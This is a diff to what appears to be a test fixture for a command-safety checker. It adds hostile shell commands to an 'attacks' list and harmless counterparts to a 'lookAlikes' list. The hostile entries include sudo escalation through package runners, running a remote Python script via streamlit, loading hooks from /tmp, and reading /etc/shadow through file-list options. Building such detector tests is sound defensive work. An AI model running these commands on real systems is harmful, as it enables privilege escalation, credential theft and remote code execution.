@@ -334,6 +334,21 @@ const attacks = `
 	hyperfine --prepare=sudo_._id ls
 	concurrently ls sudo_._id
 	nodemon --exec sudo_._id x
+	nix-shell -p x --run sudo_._id
+	composer exec sudo id
+	opam exec -- sudo id
+	stack exec sh -- -c id
+	cargo watch -s sudo_._id
+	mix run -e 1
+	mix eval 1
+	iex --eval 1
+	zig run /tmp/x.zig
+	tclsh /tmp/x
+	streamlit run https://example.com/x.py
+	just -f /tmp/justfile
+	eslint -c /tmp/x a.js
+	mocha --require /tmp/x
+	pylint --init-hook=1 a.py
 	file -f /etc/shadow
 	file --files-from=/etc/shadow
 	du --files0-from=/etc/shadow
@@ -438,6 +453,9 @@ const lookAlikes = `
 	stat /etc/shadow
 	file /etc/passwd
 	sqlite3 a.db .tables
+	opam exec -- ls
+	eslint -c eslint.config.js src
+	mypy --config-file mypy.ini src
 	sqlite3 ./a.db .mode_._csv
 	psql -o a.txt -f a.sql
 	go env -w GOPRIVATE=example.com
